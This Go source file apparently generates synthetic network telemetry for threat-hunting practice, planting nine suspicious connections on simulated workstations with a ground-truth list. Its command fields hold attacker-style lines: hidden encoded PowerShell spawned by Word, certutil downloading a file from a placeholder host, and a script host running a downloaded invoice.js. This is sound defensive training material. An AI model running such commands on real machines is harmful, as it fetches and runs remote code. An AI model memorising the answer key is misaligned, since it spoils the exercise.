package sample

import (
	"math/rand/v2"
	"strings"
)

// networkCase is a process that connects where it should not.
type networkCase struct {
	kind, strength        string
	path, parent, command string
	who                   who
	ip, url               string
	port, times           int
	what                  string
}

func networkCaseList() []networkCase {
	return []networkCase{
		{"temporary-folder", Blatant, local + `Temp\tollgate.exe`, "cmd.exe", `"{path}" -connect`, usr, "192.52.193.200", "", 4444, 180, "a program of a temporary folder calls an address every few minutes"},
		{"odd-parent", Blatant, psh, "winword.exe", `powershell.exe -w hidden -enc SQBFAFgA`, usr, "192.31.196.210", "", 443, 3, "PowerShell that Word started"},
		{"ipv6", Plain, `C:\Users\Public\quarrel.exe`, "explorer.exe", `"{path}"`, usr, "2001:4:112::5a", "", 443, 12, "a program of a public folder calls an IPv6 address"},
		{"system-tool", Plain, sys32 + "certutil.exe", "cmd.exe", `certutil.exe -urlcache -split -f http://files.quickshare.example/upd.bin C:\Users\Public\upd.dat`, usr, "192.175.48.211", "files.quickshare.example", 80, 1, "certutil fetches a file"},
		{"wrong-folder", Plain, roam + `Update\chrome.exe`, "explorer.exe", `"{path}"`, usr, "192.31.196.212", "cdn.parcel-news.example", 443, 20, "a browser's name in a folder of the user"},
		{"script-host", Plain, sys32 + "wscript.exe", "explorer.exe", `wscript.exe C:\Users\{user}\Downloads\invoice.js`, usr, "192.52.193.213", "static.weather.invalid", 443, 2, "a script that was downloaded connects"},
		{"injected", Subtle, sys32 + "svchost.exe", "explorer.exe", `svchost.exe`, usr, "192.175.48.214", "updates.toolbar.invalid", 443, 24, "svchost.exe that the desktop started"},
		{"slow", Subtle, pdata + `Ledger\ledgersync.exe`, "svchost.exe", `"{path}" --quiet`, sys, "192.31.196.215", "sync.ledger.invalid", 443, 24, "an unknown program calls home every hour, by a name and the usual port"},
		{"hollow", Subtle, sys32 + "rundll32.exe", "rundll32.exe", `rundll32.exe`, usr, "192.52.193.216", "cdn.parcel-news.example", 443, 8, "rundll32.exe with nothing to run"},
	}
}

// cases plants the connections, each on a workstation that is drawn.
func (n *traffic) cases() (list []Case) {
	rng := rand.New(rand.NewPCG(n.cfg.Seed, caseStream+2))
	for _, c := range networkCaseList() {
		m := pick(rng, n.estate.workstations())
		name := c.path[strings.LastIndexByte(c.path, '\\')+1:]
		a := &app{name: name, who: c.who}
		for i := range c.times {
			span := clock(24, 0) / int64(c.times)
			at := span*int64(i) + rng.Int64N(max(span/20, 1))
			if c.times <= 3 {
				at = clock(9, 0) + rng.Int64N(clock(8, 0))
			}
			n.add(flow{at: at, on: m, app: a, path: c.path, parent: c.parent, command: c.command, action: "ConnectionSuccess", ip: c.ip, url: c.url, port: c.port})
		}
		list = append(list, Case{Hunt: "network", Kind: c.kind, Entity: strings.ToLower(name), Strength: c.strength, Events: c.times, Hosts: hostsOf(m), What: c.what})
	}
	return list
}
